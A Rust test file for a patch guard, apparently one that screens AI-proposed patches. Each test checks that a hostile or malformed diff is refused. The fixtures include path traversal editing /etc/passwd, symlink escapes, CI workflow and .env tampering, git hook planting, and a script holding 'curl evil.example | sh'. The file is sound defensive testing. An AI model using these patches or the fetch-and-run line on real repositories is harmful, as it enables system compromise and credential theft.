//! Well-formed patches the guard refuses, one variant each; `check_patch`
//! asserts every time that the tree and the outside directory are unchanged.

use expect_test::expect;

use super::{Fixture, check_patch, check_patch_with, dedent, render_violation};
use crate::scope::ScopePolicy;

/// A change to a CI workflow is denied by the default policy.
#[test]
fn ci_workflow_is_denied() {
    check_patch(
        r#"
        diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
        --- a/.github/workflows/ci.yml
        +++ b/.github/workflows/ci.yml
        @@ -1,2 +1,2 @@
         on: push
        -jobs: {}
        +jobs: {steal: {runs-on: ubuntu-latest}}
        "#,
        expect![[
            r#"denied: path ".github/workflows/ci.yml" is denied by scope glob ".github/**""#
        ]],
    );
}

/// Deny globs ignore letter case: on a case-insensitive file system
/// `.GitHub/workflows` is the workflow directory.
#[test]
fn deny_ignores_case() {
    check_patch(
        r#"
        diff --git a/.GitHub/Workflows/evil.yml b/.GitHub/Workflows/evil.yml
        new file mode 100644
        --- /dev/null
        +++ b/.GitHub/Workflows/evil.yml
        @@ -0,0 +1 @@
        +on: push
        "#,
        expect![[
            r#"denied: path ".GitHub/Workflows/evil.yml" is denied by scope glob ".github/**""#
        ]],
    );
}

/// `a/../../etc/passwd`: libgit2 would strip `a/` and write two levels up.
#[test]
fn dot_dot_path_is_outside() {
    check_patch(
        r#"
        diff --git a/../../etc/passwd b/../../etc/passwd
        --- a/../../etc/passwd
        +++ b/../../etc/passwd
        @@ -1 +1 @@
        -root:x:0:0:root:/root:/bin/bash
        +root::0:0:root:/root:/bin/bash
        "#,
        expect![[
            r#"outside_repository: path "../../etc/passwd" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// An absolute path in a plain diff (libgit2 would read it as `passwd`).
#[test]
fn absolute_path_is_outside() {
    check_patch(
        r#"
        --- /etc/passwd
        +++ /etc/passwd
        @@ -1 +1 @@
        -root:x:0:0:root:/root:/bin/bash
        +root::0:0:root:/root:/bin/bash
        "#,
        expect![[
            r#"outside_repository: path "/etc/passwd" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// An absolute path behind the `a/` prefix of a `diff --git` line.
#[test]
fn absolute_path_after_prefix_is_outside() {
    check_patch(
        r#"
        diff --git a//etc/passwd b//etc/passwd
        --- a//etc/passwd
        +++ b//etc/passwd
        @@ -1 +1 @@
        -root:x:0:0:root:/root:/bin/bash
        +root::0:0:root:/root:/bin/bash
        "#,
        expect![[
            r#"outside_repository: path "/etc/passwd" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// A `..` hidden in only one of the section's names (the `+++` line) is
/// caught: every name is checked, not only the one git would use.
#[test]
fn dot_dot_in_one_name_only() {
    check_patch(
        r#"
        diff --git a/src/lib.rs b/src/lib.rs
        --- a/src/lib.rs
        +++ b/src/../../lib.rs
        @@ -1,3 +1,3 @@
         pub fn add(a: i32, b: i32) -> i32 {
        -    a - b
        +    a + b
         }
        "#,
        expect![[
            r#"outside_repository: path "src/../../lib.rs" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// Editing a file through `vendor/`, a symlink to a directory outside.
#[test]
fn edit_through_symlinked_directory() {
    check_patch(
        r#"
        diff --git a/vendor/secret.txt b/vendor/secret.txt
        --- a/vendor/secret.txt
        +++ b/vendor/secret.txt
        @@ -1 +1 @@
        -outside
        +owned
        "#,
        expect![[
            r#"outside_repository: path "vendor/secret.txt" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// Creating a new file under the symlinked directory.
#[test]
fn create_through_symlinked_directory() {
    check_patch(
        r#"
        diff --git a/vendor/new.txt b/vendor/new.txt
        new file mode 100644
        --- /dev/null
        +++ b/vendor/new.txt
        @@ -0,0 +1 @@
        +planted
        "#,
        expect![[
            r#"outside_repository: path "vendor/new.txt" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// Editing `notes.txt`, itself a symlink to a file outside (git would write
/// the link's target text; libgit2 might follow it).
#[test]
fn edit_of_symlink_itself() {
    check_patch(
        r#"
        diff --git a/notes.txt b/notes.txt
        index 1111111..2222222 120000
        --- a/notes.txt
        +++ b/notes.txt
        @@ -1 +1 @@
        -outside
        +owned
        "#,
        expect![[
            r#"outside_repository: path "notes.txt" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// The `.env` file at the root, and one nested with a suffix.
#[test]
fn env_files_are_denied() {
    check_patch(
        r#"
        diff --git a/.env b/.env
        --- a/.env
        +++ b/.env
        @@ -1 +1 @@
        -API_TOKEN=hunter2
        +API_TOKEN=attacker
        "#,
        expect![[r#"denied: path ".env" is denied by scope glob ".env""#]],
    );
    check_patch(
        r#"
        diff --git a/config/.env.production b/config/.env.production
        new file mode 100644
        --- /dev/null
        +++ b/config/.env.production
        @@ -0,0 +1 @@
        +DEBUG=1
        "#,
        expect![[r#"denied: path "config/.env.production" is denied by scope glob "**/.env.*""#]],
    );
}

/// Keys at the root and nested: `*.pem` stops at `/`, `**/*.pem` does not.
#[test]
fn pem_files_are_denied() {
    let new_file = |path: &str| {
        format!(
            "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+-----BEGIN PRIVATE KEY-----\n"
        )
    };
    check_patch(
        &new_file("server.pem"),
        expect![[r#"denied: path "server.pem" is denied by scope glob "*.pem""#]],
    );
    check_patch(
        &new_file("deploy/certs/server.pem"),
        expect![[r#"denied: path "deploy/certs/server.pem" is denied by scope glob "**/*.pem""#]],
    );
}

/// Nine new files where the default limit is eight.
#[test]
fn too_many_files() {
    let patch: String = (1..=9)
        .map(|idx| {
            format!("diff --git a/src/m{idx}.rs b/src/m{idx}.rs\nnew file mode 100644\n--- /dev/null\n+++ b/src/m{idx}.rs\n@@ -0,0 +1 @@\n+// {idx}\n")
        })
        .collect();
    check_patch(
        &patch,
        expect!["too_many_files: patch touches 9 files, the limit is 8"],
    );
}

/// 201 changed lines where the default limit is 200 (added plus removed).
#[test]
fn too_many_lines() {
    let mut patch = String::from(
        "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,3 +1,202 @@\n pub fn add(a: i32, b: i32) -> i32 {\n-    a - b\n",
    );
    for idx in 0..200 {
        patch.push_str(&format!("+    let _x{idx} = 0;\n"));
    }
    patch.push_str(" }\n");
    check_patch(
        &patch,
        expect!["too_many_lines: patch changes 201 lines, the limit is 200"],
    );
}

/// A `GIT binary patch` section, as `git diff --binary` writes it.
#[test]
fn git_binary_patch() {
    check_patch(
        r#"
        diff --git a/assets/logo.png b/assets/logo.png
        new file mode 100644
        index 0000000000000000000000000000000000000000..9a1f5b1ab1c1c46e2d4c4bbd2a3fd0b8c2a8e4a5
        GIT binary patch
        literal 12
        TcmZ?wbhEHbRA5kGU|;|M0n-2k

        literal 0
        HcmV?d00001

        "#,
        expect![[r#"binary: binary change to "assets/logo.png""#]],
    );
}

/// A `Binary files … differ` line, with and without a `diff --git` header.
#[test]
fn binary_files_differ() {
    check_patch(
        r#"
        diff --git a/assets/logo.png b/assets/logo.png
        index 1111111..2222222 100644
        Binary files a/assets/logo.png and b/assets/logo.png differ
        "#,
        expect![[r#"binary: binary change to "assets/logo.png""#]],
    );
    check_patch(
        "Binary files a/lib.so and b/lib.so differ\n",
        expect![[r#"binary: binary change to "lib.so""#]],
    );
}

/// Creating a symlink (mode 120000), whatever it points at.
#[test]
fn symlink_creation() {
    check_patch(
        r#"
        diff --git a/src/config.rs b/src/config.rs
        new file mode 120000
        --- /dev/null
        +++ b/src/config.rs
        @@ -0,0 +1 @@
        +/etc/shadow
        \ No newline at end of file
        "#,
        expect![[
            r#"mode_change: mode 120000 for "src/config.rs" is not allowed (no symlinks, submodules or new executables)"#
        ]],
    );
}

/// Adding a submodule (mode 160000): its URL would come from `.gitmodules`
/// and its code from anywhere.
#[test]
fn submodule_creation() {
    check_patch(
        r#"
        diff --git a/third_party/lib b/third_party/lib
        new file mode 160000
        --- /dev/null
        +++ b/third_party/lib
        @@ -0,0 +1 @@
        +Subproject commit 0123456789abcdef0123456789abcdef01234567
        "#,
        expect![[
            r#"mode_change: mode 160000 for "third_party/lib" is not allowed (no symlinks, submodules or new executables)"#
        ]],
    );
}

/// Making a plain file executable, and creating an executable file.
#[test]
fn new_executables() {
    check_patch(
        r#"
        diff --git a/README.md b/README.md
        old mode 100644
        new mode 100755
        "#,
        expect![[
            r#"mode_change: mode 100755 for "README.md" is not allowed (no symlinks, submodules or new executables)"#
        ]],
    );
    check_patch(
        r#"
        diff --git a/scripts/payload.sh b/scripts/payload.sh
        new file mode 100755
        --- /dev/null
        +++ b/scripts/payload.sh
        @@ -0,0 +1 @@
        +curl evil.example | sh
        "#,
        expect![[
            r#"mode_change: mode 100755 for "scripts/payload.sh" is not allowed (no symlinks, submodules or new executables)"#
        ]],
    );
}

/// git's own files, at the root or in a nested repository, in any case.
#[test]
fn dot_git_components() {
    let new_file = |path: &str| {
        format!(
            "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+#!/bin/sh\n"
        )
    };
    check_patch(
        &new_file(".git/hooks/pre-commit"),
        expect![[
            r#"outside_repository: path ".git/hooks/pre-commit" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
    check_patch(
        &new_file("vendored/lib/.GIT/hooks/post-checkout"),
        expect![[
            r#"outside_repository: path "vendored/lib/.GIT/hooks/post-checkout" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// `./` and `//` spellings would slip past globs written for canonical
/// paths; they are refused, not normalised.
#[test]
fn non_canonical_paths() {
    check_patch(
        r#"
        diff --git a/./.github/workflows/ci.yml b/./.github/workflows/ci.yml
        --- a/./.github/workflows/ci.yml
        +++ b/./.github/workflows/ci.yml
        @@ -1 +1 @@
        -on: push
        +on: pull_request_target
        "#,
        expect![[
            r#"outside_repository: path "./.github/workflows/ci.yml" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
    check_patch(
        r#"
        --- a/src//lib.rs
        +++ b/src//lib.rs
        @@ -2 +2 @@
        -    a - b
        +    a + b
        "#,
        expect![[
            r#"outside_repository: path "src//lib.rs" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// Quoted names decoding to a backslash path or holding a NUL byte.
#[test]
fn backslash_and_nul_in_quoted_names() {
    check_patch(
        r#"
        --- "a/..\\..\\etc\\passwd"
        +++ "b/..\\..\\etc\\passwd"
        @@ -1 +1 @@
        -root
        +toor
        "#,
        expect![[
            r#"outside_repository: path "..\\..\\etc\\passwd" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
    check_patch(
        r#"
        --- "a/src/lib.rs\000.txt"
        +++ "b/src/lib.rs\000.txt"
        @@ -1 +1 @@
        -a
        +b
        "#,
        expect![[
            r#"outside_repository: path "src/lib.rs\0.txt" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// A rename checks its source: moving `.env` somewhere allowed is denied.
#[test]
fn rename_checks_source() {
    check_patch(
        r#"
        diff --git a/.env b/src/env.txt
        similarity index 100%
        rename from .env
        rename to src/env.txt
        "#,
        expect![[r#"denied: path ".env" is denied by scope glob ".env""#]],
    );
}

/// A rename checks its target: moving a source file into CI config is
/// denied, and moving it through a symlink leaves the tree.
#[test]
fn rename_checks_target() {
    check_patch(
        r#"
        diff --git a/src/util.rs b/.github/workflows/util.yml
        similarity index 100%
        rename from src/util.rs
        rename to .github/workflows/util.yml
        "#,
        expect![[
            r#"denied: path ".github/workflows/util.yml" is denied by scope glob ".github/**""#
        ]],
    );
    check_patch(
        r#"
        diff --git a/src/util.rs b/vendor/util.rs
        similarity index 100%
        rename from src/util.rs
        rename to vendor/util.rs
        "#,
        expect![[
            r#"outside_repository: path "vendor/util.rs" leaves the work tree (absolute, `..`, `.git`, control characters or a symlink on the way)"#
        ]],
    );
}

/// `allow = ["src/**"]` restricts patches to the source tree.
#[test]
fn allow_globs_restrict() {
    let policy = ScopePolicy {
        allow: vec!["src/**".to_string()],
        ..ScopePolicy::default()
    };
    check_patch_with(
        &policy,
        r#"
        diff --git a/README.md b/README.md
        --- a/README.md
        +++ b/README.md
        @@ -1 +1 @@
        -# demo
        +# Demo
        "#,
        expect![[r#"not_allowed: path "README.md" is outside the allowed scope globs"#]],
    );
    let fixture = Fixture::new();
    let fix = dedent(
        r#"
        diff --git a/src/util.rs b/src/util.rs
        --- a/src/util.rs
        +++ b/src/util.rs
        @@ -2 +2 @@
        -    x
        +    x + 0
        "#,
    );
    assert!(fixture.check_with(&policy, &fix).is_ok());
}

/// The patch's context no longer matches the file: the variant names the
/// file, so the model learns which one is stale.
#[test]
fn stale_context_does_not_apply() {
    check_patch(
        r#"
        diff --git a/src/util.rs b/src/util.rs
        --- a/src/util.rs
        +++ b/src/util.rs
        @@ -2 +2 @@
        -    x + 1
        +    x + 2
        diff --git a/src/lib.rs b/src/lib.rs
        --- a/src/lib.rs
        +++ b/src/lib.rs
        @@ -6 +6 @@
        -    x * 2
        +    x << 1
        "#,
        expect![[
            r#"does_not_apply: patch does not apply: "src/util.rs": hunk at line 2 did not apply"#
        ]],
    );
}

/// Creating a file that exists (libgit2 would overwrite it, so a "+1 line"
/// patch could silently replace a whole file).
#[test]
fn creating_an_existing_file() {
    check_patch(
        r#"
        diff --git a/src/lib.rs b/src/lib.rs
        new file mode 100644
        --- /dev/null
        +++ b/src/lib.rs
        @@ -0,0 +1 @@
        +pub fn add(a: i32, b: i32) -> i32 { a + b }
        "#,
        expect![[r#"does_not_apply: patch does not apply: "src/lib.rs" already exists"#]],
    );
}

/// Renaming onto an existing file.
#[test]
fn renaming_onto_an_existing_file() {
    check_patch(
        r#"
        diff --git a/src/util.rs b/src/lib.rs
        similarity index 100%
        rename from src/util.rs
        rename to src/lib.rs
        "#,
        expect![[r#"does_not_apply: patch does not apply: "src/lib.rs" already exists"#]],
    );
}

/// A deletion that removes only the first lines of a file (libgit2 would
/// delete the whole file while the counts say one line).
#[test]
fn partial_deletion() {
    check_patch(
        r#"
        diff --git a/src/lib.rs b/src/lib.rs
        deleted file mode 100644
        --- a/src/lib.rs
        +++ /dev/null
        @@ -1 +0,0 @@
        -pub fn add(a: i32, b: i32) -> i32 {
        "#,
        expect![[
            r#"does_not_apply: patch does not apply: deleting "src/lib.rs" removes 1 of its 7 lines"#
        ]],
    );
}

/// A patch for a file that does not exist.
#[test]
fn missing_file() {
    check_patch(
        r#"
        diff --git a/src/gone.rs b/src/gone.rs
        --- a/src/gone.rs
        +++ b/src/gone.rs
        @@ -1 +1 @@
        -a
        +b
        "#,
        expect![[
            r#"does_not_apply: patch does not apply: "src/gone.rs" does not exist or is not a regular file"#
        ]],
    );
}

/// Every rejection above left the tree alone; this one checks it for a
/// refusal that happens last, after libgit2's dry run, on a patch whose first
/// file would apply.
#[test]
fn dry_run_failure_changes_nothing() {
    let fixture = Fixture::new();
    let patch = dedent(
        r#"
        diff --git a/src/lib.rs b/src/lib.rs
        --- a/src/lib.rs
        +++ b/src/lib.rs
        @@ -2 +2 @@
        -    a - b
        +    a + b
        diff --git a/src/util.rs b/src/util.rs
        --- a/src/util.rs
        +++ b/src/util.rs
        @@ -2 +2 @@
        -    y
        +    z
        "#,
    );
    let violation = fixture
        .check(&patch)
        .expect_err("the second file does not apply");
    expect![[
        r#"does_not_apply: patch does not apply: "src/util.rs": hunk at line 2 did not apply"#
    ]]
    .assert_eq(&render_violation(&violation));
    assert_eq!(fixture.read("src/lib.rs"), super::LIB_RS);
}
